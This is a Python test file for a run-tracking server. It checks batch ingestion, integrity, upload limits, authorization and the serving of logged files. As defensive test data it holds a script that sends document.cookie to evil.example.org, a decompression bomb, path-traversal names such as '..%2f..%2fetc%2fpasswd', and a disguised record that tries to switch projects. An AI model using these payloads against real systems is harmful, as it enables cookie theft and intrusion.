"""Batches over HTTP: taken once, whole or not at all, whatever arrives."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
import zstandard

from tests.servers import Serving, serving, until
from tests.store.journals import Writer
from trackkit.backend.store import runs, series
from trackkit.core import records, wire
from trackkit.core.sink import Batch

HEADERS = {"content-type": wire.CONTENT_TYPE}


def post(server: Serving, batch: Batch, after: int | None = None, **headers: str) -> requests.Response:
    body = wire.encode("r", "w", batch.start if after is None else after, batch)
    return server.ask("POST", "/runs/r/journals/w", data=body, headers={**HEADERS, **headers})


def values(server: Serving) -> list[float]:
    with server.services.storage.reading() as db:
        number = runs.find(db, "r")
        return [] if number is None else series.points(db, number, "x").values.tolist()


@pytest.fixture
def writer(tmp_path: Path) -> Writer:
    return Writer(tmp_path / "client", "r", "w").start()


def test_a_batch_is_taken_and_acknowledged(server: Serving, writer: Writer) -> None:
    batch = writer.log({"x": 1}).log({"x": 2}).batch()

    answer = post(server, batch)

    assert answer.json() == {"position": batch.end, "stop": False, "check": f"r/w/{batch.end}/0"}
    assert server.get("/runs/r/journals/w")["position"] == batch.end
    assert values(server) == [1, 2]


def test_a_batch_that_comes_twice_is_taken_once(server: Serving, writer: Writer) -> None:
    batch = writer.log({"x": 1}).batch()

    assert post(server, batch).json() == post(server, batch).json()
    assert values(server) == [1]


def test_a_batch_that_follows_on_what_never_came_is_refused_with_the_position(server: Serving, writer: Writer) -> None:
    first = writer.log({"x": 1}).batch()
    writer.log({"x": 2})

    answer = post(server, Batch(first.end, first.end + 100, [b"x" * 50], [first.end + 100]), after=first.end)

    assert answer.status_code == 409
    assert answer.json()["error"]["position"] == 0
    assert values(server) == []


def test_compressed_batches_are_taken(server: Serving, writer: Writer) -> None:
    body = zstandard.ZstdCompressor().compress(wire.encode("r", "w", 0, writer.log({"x": 1}).batch()))

    answer = server.ask("POST", "/runs/r/journals/w", data=body, headers={**HEADERS, "content-encoding": "zstd"})

    assert answer.status_code == 200
    assert values(server) == [1]


def test_no_damage_goes_unnoticed(server: Serving, writer: Writer) -> None:
    body = wire.encode("r", "w", 0, writer.log({"x": 1}).batch())
    for position in range(0, len(body), 7):
        damaged = bytearray(body)
        damaged[position] ^= 0x10

        answer = server.ask("POST", "/runs/r/journals/w", data=bytes(damaged), headers=HEADERS)

        assert answer.status_code == 400
    assert server.ask("POST", "/runs/r/journals/w", data=body[:-1], headers=HEADERS).status_code == 400
    assert server.ask("POST", "/runs/other/journals/w", data=body, headers=HEADERS).status_code == 400
    assert server.get("/runs")["total"] == 0


@pytest.mark.parametrize("ends", [[5], [400], [30, 20], [-1]])
def test_a_batch_that_contradicts_itself_is_refused(server: Serving, ends: list[int]) -> None:
    answer = post(server, Batch(0, 100, [b"x" * 12] * len(ends), ends))

    assert answer.status_code == 400
    assert "contradicts itself" in answer.json()["error"]["message"]


def test_a_bomb_is_not_unpacked(root: Path, server: Serving) -> None:
    bomb = zstandard.ZstdCompressor().compress(b"\0" * (200 << 20))

    answer = server.ask("POST", "/runs/r/journals/w", data=bomb, headers={**HEADERS, "content-encoding": "zstd"})

    assert answer.status_code == 413


def test_a_body_of_another_kind_is_refused(server: Serving) -> None:
    for headers in ({"content-type": "application/json"}, {**HEADERS, "content-encoding": "br"}):
        assert server.ask("POST", "/runs/r/journals/w", data=b"x", headers=headers).status_code == 415


@pytest.mark.parametrize("run", ["..", "a%2Fb", ".hidden", "a b", "x" * 200])
def test_names_that_could_be_paths_are_refused(server: Serving, run: str) -> None:
    body = wire.encode("r", "w", 0, Batch(0, 20, [b"x" * 12], [20]))

    answer = server.ask("POST", f"/runs/{run}/journals/w", data=body, headers=HEADERS)

    assert answer.status_code in (400, 404, 405)
    assert server.get("/runs")["total"] == 0


def test_a_token_for_a_project_writes_to_no_other(guarded: Serving, tmp_path: Path) -> None:
    headers = {"authorization": f"Bearer {guarded.token(projects=['p'])}"}
    theirs = Writer(tmp_path / "a", "r", "w").start(project="q").log({"x": 1})
    ours = Writer(tmp_path / "b", "r", "w").start(project="p").log({"x": 1})

    assert post(guarded, theirs.batch(), **headers).status_code == 403
    assert post(guarded, ours.batch(), **headers).status_code == 200


def test_no_later_record_takes_a_run_into_another_project(guarded: Serving, tmp_path: Path) -> None:
    headers = {"authorization": f"Bearer {guarded.token(projects=['p'])}"}
    writer = Writer(tmp_path / "c", "r", "w").start(project="p").log({"x": 1})
    first = writer.batch()
    assert post(guarded, first, **headers).status_code == 200
    start = records.Start(1.0, "r", "q", "r")
    writer.say(start)

    assert post(guarded, writer.batch(), **headers).status_code == 403
    given = records.encode(start)
    spelled = b"\xdc\x00" + bytes([given[0] & 0x0F]) + b"\xd9\x05start" + given[7:]  # the same in other words
    assert records.decode(spelled) == start
    again = Batch(first.end, first.end + 8 + len(spelled), [spelled], [first.end + 8 + len(spelled)])
    assert post(guarded, again, **headers).status_code == 403
    with guarded.services.storage.reading() as db:
        (row,) = runs.load(db, runs.numbers(db))
    assert row.project == "p"


def test_what_is_to_be_durable_is_on_the_disk_before_the_answer(server: Serving, writer: Writer) -> None:
    calls: list[str] = []
    inner = server.services.storage.sync

    def sync() -> None:
        calls.append("sync")
        inner()

    server.services.storage.sync = sync  # type: ignore[method-assign]
    post(server, writer.log({"x": 1}).batch())
    assert calls == []

    assert server.get("/runs/r/journals/w", durable=True)["position"] > 0
    assert calls == ["sync"]


def test_a_slow_large_file_delays_no_metric(server: Serving, writer: Writer) -> None:
    content = os.urandom(8 << 20)
    digest = hashlib.sha256(content).hexdigest()
    seen: list[int] = []
    post(server, writer.batch())

    def drip() -> Iterator[bytes]:
        for number in range(32):
            yield content[number << 18 : (number + 1) << 18]
            batch = writer.log({"x": number}).batch(number + 1)
            assert post(server, batch).status_code == 200
            chart = server.ask("GET", "/panel", params={"spec": '{"keys":["x"],"runs":["r"]}'})
            seen.append(json.loads(chart.content[4 : 4 + int.from_bytes(chart.content[:4], "little")])["length"])
            assert server.get("/runs/r/missing")["digests"] == []
            assert server.services.storage.blobs.size(digest) is None

    with requests.Session() as uploading:
        uploading.trust_env = False
        headers = {"x-trackkit-csrf": "x"}
        taken = uploading.put(f"{server.address}/api/v1/blobs/{digest}", data=drip(), headers=headers, timeout=60)

    assert taken.status_code == 201
    assert seen == list(range(1, 33)), "each point was in the chart while the file was still on its way"
    assert server.services.storage.blobs.verify(digest)


def test_many_slow_files_at_once_delay_no_metric(server: Serving, writer: Writer) -> None:
    """More of them than the server has threads."""
    host, _, port = server.address.removeprefix("http://").partition(":")
    with contextlib.ExitStack() as stack:
        for number in range(100):
            upload = stack.enter_context(socket.create_connection((host, int(port))))
            head = f"PUT /api/v1/blobs/{number:064x} HTTP/1.1\r\nHost: localhost\r\nX-Trackkit-CSRF: x\r\n"
            upload.sendall(f"{head}Content-Length: 10000000\r\n\r\n".encode() + b"x" * 1000)
        until(lambda: len([*server.services.storage.blobs.spool.glob("*")]) >= 100)

        assert post(server, writer.log({"x": 1}).batch()).status_code == 200
        assert values(server) == [1]


def test_a_file_that_breaks_off_leaves_nothing_behind(server: Serving, caplog: pytest.LogCaptureFixture) -> None:
    host, _, port = server.address.removeprefix("http://").partition(":")
    with socket.create_connection((host, int(port))) as upload:
        head = f"PUT /api/v1/blobs/{'a' * 64} HTTP/1.1\r\nHost: localhost\r\nX-Trackkit-CSRF: x\r\n"
        upload.sendall(f"{head}Content-Length: 10000000\r\n\r\n".encode() + b"x" * 100_000)
        until(lambda: [*server.services.storage.blobs.spool.glob("*")])
    until(lambda: not list(server.services.storage.blobs.spool.glob("*")))
    assert [record for record in caplog.records if record.levelname in ("WARNING", "ERROR")] == []


def test_a_file_larger_than_the_limit_is_refused_without_reading_it_all(tmp_path: Path) -> None:
    with serving(tmp_path, max_blob_mb=1) as small:
        answer = small.ask("PUT", f"/blobs/{'a' * 64}", data=b"x" * (1 << 20) + b"x")

        assert answer.status_code == 413
        assert "1,048,576 bytes" in answer.json()["error"]["message"]
        assert not [path for path in (tmp_path / "incoming").glob("*") if path.is_file()]


def test_a_body_larger_than_the_limit_is_refused(server: Serving) -> None:
    body = b'{"notes": "' + b"x" * (5 << 20) + b'"}'

    answer = server.ask("PATCH", "/runs/r", data=body, headers={"content-type": "application/json"})

    assert answer.status_code == 413


def test_html_that_a_run_logged_is_shown_in_frames_alone_and_can_do_nothing_there(
    server: Serving, writer: Writer
) -> None:
    page = b"<script>fetch('https://evil.example.org/' + document.cookie)</script>"
    post(server, writer.say(records.Object(1.0, "", "html", "media/p.html", len(page), inline=page)).batch())

    def ask(params: dict[str, str], **headers: str) -> requests.Response:
        return server.ask("GET", "/runs/r/files/media/p.html", params=params, headers=headers)

    for answer in (ask({}), ask({"inline": "true"}), ask({}, **{"sec-fetch-dest": "iframe"}),
                   ask({"inline": "true"}, **{"sec-fetch-dest": "document"})):  # fmt: skip
        assert answer.headers["content-disposition"].startswith("attachment")
        assert answer.headers["content-type"] == "application/octet-stream"
    framed = ask({"inline": "true"}, **{"sec-fetch-dest": "iframe"})
    policy = {part.split()[0]: part.split()[1:] for part in framed.headers["content-security-policy"].split(";")}
    assert framed.headers["content-type"].startswith("text/html")
    assert framed.content == page
    assert policy["sandbox"] == ["allow-scripts"]  # a stranger's origin: no cookie, no storage, no window of ours
    assert policy["default-src"] == ["'none'"]  # and no connection to anywhere
    assert policy["frame-ancestors"] == ["'self'"]


def test_a_deleted_run_does_not_come_back_by_half(server: Serving, writer: Writer) -> None:
    first = writer.log({"x": 1}).batch()
    post(server, first)
    server.ask("DELETE", "/runs/r")
    rest = writer.log({"x": 2}).batch()

    answer = post(server, Batch(first.end, rest.end, rest.payloads[-1:], rest.ends[-1:]), after=first.end)

    assert answer.status_code == 409


def test_the_answer_tells_that_the_run_is_to_stop(server: Serving, writer: Writer) -> None:
    post(server, writer.log({"x": 1}).batch())
    server.ask("POST", "/runs/actions", json={"action": "stop", "runs": ["r"]})

    assert server.get("/runs/r/journals/w")["stop"] is True


def test_a_dead_writer_s_run_is_marked_crashed(server: Serving, writer: Writer) -> None:
    post(server, writer.log({"x": 1}).batch())

    answer = server.ask("POST", "/runs/r/journals/w/abandon", json={"when": 1_700_000_500.0})

    assert answer.json() == {"changed": True}
    assert server.get("/runs/r")["run"]["state"] == "crashed"


def test_files_are_kept_checked_and_served_as_downloads(server: Serving, writer: Writer) -> None:
    content = os.urandom(3 << 20)
    digest = hashlib.sha256(content).hexdigest()
    page = b"<script>alert(1)</script>"
    writer.say(
        records.Object(1.0, "", "file", "model.bin", len(content), digest=digest),
        records.Object(1.0, "", "file", "a/page.html", len(page), inline=page),
    )
    post(server, writer.batch())
    assert server.get("/runs/r/missing")["digests"] == [digest]
    assert server.ask("GET", "/runs/r/files/model.bin").status_code == 404

    damaged = server.ask("PUT", f"/blobs/{digest}", data=content[:-1])
    taken = server.ask("PUT", f"/blobs/{digest}", data=content)
    again = server.ask("PUT", f"/blobs/{digest}", data=content)

    assert (damaged.status_code, taken.status_code, again.status_code) == (400, 201, 204)
    assert server.get("/runs/r/missing")["digests"] == []
    assert [file["path"] for file in server.get("/runs/r/files")["files"]] == ["a/page.html", "model.bin"]
    assert server.ask("GET", "/runs/r/files/model.bin").content == content
    shown = server.ask("GET", "/runs/r/files/a/page.html?inline=true")
    assert shown.content == page
    assert shown.headers["content-disposition"].startswith("attachment")
    assert "sandbox" in shown.headers["content-security-policy"]
    assert not [path for path in server.services.storage.blobs.spool.glob("*") if path.is_file()]


@pytest.mark.parametrize("digest", ["..%2f..%2fetc%2fpasswd", "xyz", "A" * 64])
def test_a_file_named_by_no_digest_is_refused(server: Serving, digest: str) -> None:
    assert server.ask("PUT", f"/blobs/{digest}", data=b"x").status_code in (400, 404, 405)
